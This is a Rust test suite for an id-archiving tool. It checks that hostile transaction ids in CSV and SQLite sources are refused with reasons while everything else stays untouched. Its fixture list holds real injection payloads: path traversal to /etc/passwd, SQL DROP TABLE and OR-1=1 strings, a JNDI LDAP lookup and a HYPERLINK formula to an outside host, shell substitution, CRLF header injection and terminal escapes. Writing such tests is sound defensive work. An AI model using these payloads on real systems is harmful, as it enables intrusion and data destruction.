//! Hostile ids: they are named and left out, whatever source they come in, and nothing else is touched. Ids that only look
//! odd are asked for, archived and reported like any other.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;
use std::path::PathBuf;
use std::time::Duration;

use idvault::sandbox::Mix;
use rusqlite::{Connection, params};

use super::{Ended, Place, Vendor, files_below};

/// The longest cell of `rejected.csv` but for the source's name, in characters.
const LONGEST_CELL: usize = 200;

/// Ids that no vendor gives, and a part of the reason for which each is refused.
fn hostile() -> Vec<(String, &'static str)> {
    let character = "only ASCII letters";
    let mut ids = vec![("x".repeat(10_000), "10000 bytes"), ("é".repeat(33), "66 bytes")];
    let of_one_line = [
        "../../../../etc/cron.d/owned",
        "..\\..\\owned",
        "/etc/passwd",
        "..",
        "./owned",
        "file:owned?mode=rwc",
        "%2e%2e%2fowned",
        "owned%00",
        "owned%0d%0aX-Owned:1",
        "a&Action=Owned",
        "'; DROP TABLE transactions; --",
        "x' OR '1'='1",
        "\");DELETE FROM transactions;--",
        "ok😀",
        "ａｂｃ",
        "abc\u{202e}gpj.exe",
        "a\u{200b}b",
        "\u{feff}abc",
        "=HYPERLINK(\"http://owned.example/\")",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "＝1+1",
        "a;=1+1",
        "$(owned)",
        "`owned`",
        "${jndi:ldap://owned.example}",
        "{{owned}}",
        "<script>owned</script>",
        "\u{1b}]0;owned\u{7}",
        "a\u{9b}2Jb",
        "two words",
    ];
    ids.extend(of_one_line.map(|id| (id.to_owned(), character)));
    ids
}

/// A hostile id of more than one line, and one with a NUL: a CSV file can't hold them in one row.
const OF_TWO_LINES: &str = "ok\r\nX-Owned: 1";
const WITH_NUL: &str = "ok\0owned";

fn good(number: usize) -> String {
    format!("good{number:03}")
}

/// `text` as a CSV cell.
fn quoted(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

/// What lies around the data folder, to the byte.
fn outside(place: &Place) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut files = files_below(place.dir.path());
    files.retain(|file| !file.starts_with(place.data()));
    files
        .into_iter()
        .map(|file| (file.clone(), std::fs::read(file).unwrap()))
        .collect()
}

/// The names in the data folder, without what a run's time and number decide.
fn inside(place: &Place) -> BTreeSet<String> {
    let digits = |c: char| c.is_ascii_digit();
    files_below(&place.data())
        .iter()
        .map(|file| file.strip_prefix(place.data()).unwrap().to_str().unwrap())
        .map(|file| file.replace(digits, "0"))
        .collect()
}

fn schema(place: &Place) -> Vec<String> {
    let ledger = place.ledger();
    let mut all = ledger
        .prepare("SELECT name || ': ' || coalesce(sql, '') FROM sqlite_schema ORDER BY name")
        .unwrap();
    all.query_map([], |row| row.get(0))
        .unwrap()
        .map(Result::unwrap)
        .collect()
}

/// What a night of `count` good rows leaves: the names in the data folder, and the ledger's schema.
fn undisturbed(count: usize) -> (BTreeSet<String>, Vec<String>) {
    let place = Place::new();
    let rows: String = (0..count).map(|number| good(number) + "\n").collect();
    let source = place.write("pending.csv", format!("transaction_id\n{rows}"));
    all_final(&place, &source).expect(0);
    (inside(&place), schema(&place))
}

/// A night in which every id that is asked for has a verdict.
fn all_final(place: &Place, source: &str) -> Ended {
    let vendor = Vendor::start(Mix::AllFinal, Duration::ZERO);
    Ended::of(place.night_of(&vendor, &["--pending", source]).output().unwrap())
}

fn archived(place: &Place) -> BTreeSet<String> {
    let rows = place.archived("verifications");
    rows.iter().map(|row| row.id().to_owned()).collect()
}

/// The night of a source that was written already, with good rows among the hostile ones: each bad line is named with its
/// reason, in cells that harm nobody; the good ids are archived; the rest of the world is as it was.
#[track_caller]
fn assert_harmless(place: &Place, source: &str, good_rows: usize, bad: &BTreeMap<u64, &str>) {
    let before = outside(place);
    let ended = all_final(place, source).expect(4);
    assert_eq!(outside(place), before);
    assert_eq!((inside(place), schema(place)), undisturbed(good_rows));
    assert_eq!(archived(place), (0..good_rows).map(good).collect());
    assert_eq!(place.count("SELECT count(*) FROM transactions"), good_rows as u64);

    let rejected = place.report("rejected.csv");
    let lines: BTreeSet<u64> = rejected.iter().map(|row| row["line"].parse().unwrap()).collect();
    assert_eq!(lines, bad.keys().copied().collect());
    for row in &rejected {
        let reason = bad[&row["line"].parse().unwrap()];
        assert!(row["reason"].contains(reason), "{row:?}");
        assert_eq!(row["source"], source);
        for name in ["transaction_id", "reason"] {
            let cell = &row[name];
            assert!(cell.chars().count() <= LONGEST_CELL, "{row:?}");
            let steers = |c: char| c.is_control() || ('\u{202a}'..='\u{202e}').contains(&c);
            assert!(!cell.contains(steers), "{row:?}");
            let runs = |part: &str| part.trim_start().starts_with(['=', '+', '-', '@', '＝']);
            assert!(!cell.split(';').any(runs), "{row:?}");
        }
    }
    assert!(!ended.stderr.contains("owned"), "{}", ended.stderr);
}

#[test]
fn hostile_ids_in_csv_are_named_and_nothing_else_is_touched() {
    let place = Place::new();
    let mut text = "transaction_id,note\n".to_owned();
    let (mut line, mut bad) = (2, BTreeMap::new());
    let mut rows = 0;
    let mut add = |text: &mut String, cell: &str, reasons: &[&'static str]| {
        write!(text, "{},x\n{cell},x\n", good(rows)).unwrap();
        rows += 1;
        bad.extend((line + 1..).zip(reasons.iter().copied()));
        line += 1 + reasons.len() as u64;
    };
    for (id, reason) in hostile() {
        add(&mut text, &quoted(&id), &[reason]);
    }
    add(&mut text, &quoted(OF_TWO_LINES), &["quote", "only ASCII letters"]);
    add(&mut text, WITH_NUL, &["NUL"]);
    let source = place.write("pending.csv", text);
    assert_harmless(&place, &source, rows, &bad);
}

#[test]
fn hostile_ids_in_sqlite_are_named_and_nothing_else_is_touched() {
    let place = Place::new();
    let path = place.path("app.sqlite");
    let source = path.to_str().unwrap().to_owned();
    let mut bad = BTreeMap::new();
    let mut ids = hostile();
    ids.extend([OF_TWO_LINES, WITH_NUL].map(|id| (id.to_owned(), "only ASCII letters")));
    {
        let mut app = Connection::open(&path).unwrap();
        let rows = app.transaction().unwrap();
        rows.execute_batch("CREATE TABLE pending (transaction_id)").unwrap();
        let insert = "INSERT INTO pending VALUES (?1)";
        for (number, (id, reason)) in ids.iter().enumerate() {
            rows.execute(insert, params![good(number)]).unwrap();
            rows.execute(insert, params![id]).unwrap();
            bad.insert(2 + 2 * number as u64, *reason);
        }
        rows.execute(insert, params![b"../owned".as_slice()]).unwrap();
        bad.insert(1 + 2 * ids.len() as u64, "a BLOB");
        rows.commit().unwrap();
    }
    assert_harmless(&place, &source, ids.len(), &bad);
}

#[test]
fn ids_that_only_look_odd_are_asked_for_archived_and_reported() {
    let longest = "x".repeat(64);
    let odd = [
        "-",
        "_",
        "--",
        "--help",
        "-rf",
        "DROP",
        "CON",
        "NUL",
        "true",
        "0",
        "00123",
        "1E10",
        "-1",
        "__proto__",
        "latest",
        &longest,
    ];
    let place = Place::new();
    let source = place.write("pending.csv", format!("transaction_id\n{}\n", odd.join("\n")));
    let plan = place.idvault(&["run", "--dry-run", "--pending", &source]).expect(0);
    let expiry = place.report("expiry.csv");
    let reported = |rows: &[BTreeMap<String, String>]| -> BTreeSet<String> {
        // How docs/compliance/privacy.md says that a program reads an id back.
        let id = |row: &BTreeMap<String, String>| row["transaction_id"].trim_start_matches('\'').to_owned();
        assert!(
            rows.iter().all(|row| !row["transaction_id"].starts_with('-')),
            "{rows:?}"
        );
        rows.iter().map(id).collect()
    };
    let all: BTreeSet<String> = odd.iter().map(ToString::to_string).collect();
    assert_eq!(reported(&super::lines(&plan.stdout)), all);
    assert_eq!(reported(&expiry), all);
    for cell in ["00123", "1E10"] {
        assert!(
            expiry.iter().any(|row| row["transaction_id"] == cell),
            "{cell} is as it was"
        );
    }
    all_final(&place, &source).expect(0);
    assert_eq!(archived(&place), all);
    assert_eq!(place.archived("verifications").len(), odd.len());
    place.idvault(&["verify", "--read-data"]).expect(0);
}
